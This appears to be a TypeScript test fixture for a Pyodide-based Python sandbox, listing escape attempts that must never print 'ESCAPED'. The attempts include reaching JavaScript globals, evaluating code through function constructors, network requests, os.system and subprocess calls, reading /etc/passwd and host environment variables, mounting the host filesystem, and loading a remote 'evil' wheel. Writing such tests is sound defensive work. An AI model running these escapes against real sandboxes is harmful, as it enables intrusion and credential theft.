/** A program that tries to reach what it must not, and prints `ESCAPED` when it does. */
export interface HostileProgram {
  readonly title: string;
  readonly source: string;
}

const escaped = "\nprint('ESCAPED')";

/** Names of the page's world, of a worker's and of Node's. */
const namesOfJavaScript =
  'fetch document window self globalThis localStorage sessionStorage indexedDB caches navigator importScripts postMessage parent top opener ' +
  'XMLHttpRequest WebSocket EventSource process require location Worker BroadcastChannel open eval Function WebAssembly crypto';

const imports: readonly HostileProgram[] = namesOfJavaScript.split(' ').map((name) => ({
  title: `imports ${name} from js`,
  source: `from js import ${name}${escaped}`,
}));

/** Texts that would run if they were evaluated as JavaScript. */
const evaluations: readonly HostileProgram[] = [
  ['run_js', "from pyodide.code import run_js\nrun_js('1')"],
  [
    'the constructor of an array',
    "from pyodide.ffi import to_js\nto_js([1]).constructor.constructor('return 1')()",
  ],
  ['the constructor of a function', "import pyodide_js\npyodide_js.runPython.constructor('return 1')()"],
  [
    'the constructor of an async function',
    "import pyodide_js\npyodide_js.runPythonAsync.constructor('return 1')()",
  ],
  [
    'a constructor found among all objects',
    "import gc\nfor each in gc.get_objects():\n    if type(each).__name__ == 'JsProxy':\n        each.constructor.constructor('return 1')()\n        print('ESCAPED')\nraise SystemExit",
  ],
  ['a timer with a text', "import pyodide_js\npyodide_js._module.setTimeout('1', 0)"],
].map(([title = '', source = '']) => ({
  title: `evaluates JavaScript through ${title}`,
  source: source + escaped,
}));

const addresses = ['/api/public/courses', 'https://example.com/', 'http://127.0.0.1:9/'];

const requests: readonly HostileProgram[] = addresses.flatMap((address) => [
  {
    title: `asks for ${address} with pyfetch`,
    source: `from pyodide.http import pyfetch\nawait pyfetch(${JSON.stringify(address)})${escaped}`,
  },
  {
    title: `asks for ${address} with open_url`,
    source: `from pyodide.http import open_url\nopen_url(${JSON.stringify(address)})${escaped}`,
  },
  {
    title: `asks for ${address} with urllib`,
    source: `import urllib.request\nurllib.request.urlopen(${JSON.stringify(address)}, timeout=1)${escaped}`,
  },
]);

const others: readonly HostileProgram[] = [
  [
    'opens a socket',
    "import socket\nassert socket.create_connection(('127.0.0.1', 80), 1).send(b'GET / HTTP/1.0\\r\\n\\r\\n')",
  ],
  [
    'opens a connection of asyncio',
    "import asyncio\nawait asyncio.wait_for(asyncio.open_connection('127.0.0.1', 80), 1)",
  ],
  ['starts a program', "import subprocess\nsubprocess.run(['ls'], check=True)"],
  ['starts a shell', "import os\nassert os.system('ls') == 0"],
  ['forks', 'import os\nos.fork()'],
  ['calls system in C', "import ctypes\nassert ctypes.CDLL(None).system(b'ls') == 0"],
  ['opens a library', "import ctypes\nctypes.CDLL('libc.so.6').getpid()"],
  ['reads the password file', "open('/etc/passwd').read()"],
  [
    'reads the environment of the host',
    "import os\nassert any(name.startswith(('AWS', 'NODE', 'NORTHLIGHT', 'npm')) for name in os.environ)",
  ],
  ['reads its own process', "open('/proc/self/environ').read()"],
  ['mounts the files of the host', "import pyodide_js\npyodide_js.mountNodeFS('/host', '/')"],
  [
    'mounts the files of the host by hand',
    "import pyodide_js\nfs = pyodide_js.FS\nfs.mkdir('/host')\nfs.mount(fs.filesystems.NODEFS, pyodide_js.toPy({}), '/host')\nopen('/host/etc/passwd').read()",
  ],
  ['mounts a folder of the browser', "import pyodide_js\nawait pyodide_js.mountNativeFS('/native', None)"],
  [
    'keeps files in the database of the browser',
    "import pyodide_js\nfs = pyodide_js.FS\nfs.mkdir('/kept')\nfs.mount(fs.filesystems.IDBFS, pyodide_js.toPy({}), '/kept')\nimport asyncio\nfrom pyodide.ffi import create_proxy\ndone = []\nfs.syncfs(False, create_proxy(lambda error=None: done.append(error)))\nawait asyncio.sleep(0.2)\nassert done == [None]",
  ],
  ['loads a package', "import pyodide_js\nawait pyodide_js.loadPackage('numpy')\nimport numpy"],
  [
    'loads a wheel from elsewhere',
    "import pyodide_js\nawait pyodide_js.loadPackage('https://example.com/evil-1.0-py3-none-any.whl')\nimport evil",
  ],
  ['installs with micropip', "import micropip\nawait micropip.install('requests')"],
  ['opens a browser', "import webbrowser\nassert webbrowser.open('https://example.com/')"],
  ['reads a line from the terminal', 'import sys\nassert sys.stdin.readline()'],
  ['takes js from the modules', "import sys\nsys.modules['js'].fetch"],
  ['loads js again', "import importlib, sys\nimportlib.reload(sys.modules['js']).fetch"],
  [
    'registers a module of its own as js',
    "import pyodide_js\npyodide_js.registerJsModule('more', pyodide_js)\nfrom more import globalThis",
  ],
  [
    'walks through the engine to the host',
    `import pyodide_js
found = []
seen = set()
def walk(value, path, depth):
    if depth == 0 or type(value).__name__ != 'JsProxy':
        return
    for name in dir(value):
        if name.startswith('__') or (path, name) in seen:
            continue
        seen.add((path, name))
        try:
            child = getattr(value, name)
        except BaseException:
            continue
        if name in ('indexedDB', 'localStorage', 'importScripts', 'process', 'XMLHttpRequest', 'fetch', 'document'):
            found.append((path, name))
        walk(child, path + '.' + name, depth - 1)
walk(pyodide_js, 'pyodide_js', 3)
assert found, found
print(found)`,
  ],
].map(([title = '', source = '']) => ({ title, source: source + escaped }));

/** Programs that try to get out. None may print `ESCAPED`. */
export const escapes: readonly HostileProgram[] = [...imports, ...evaluations, ...requests, ...others];
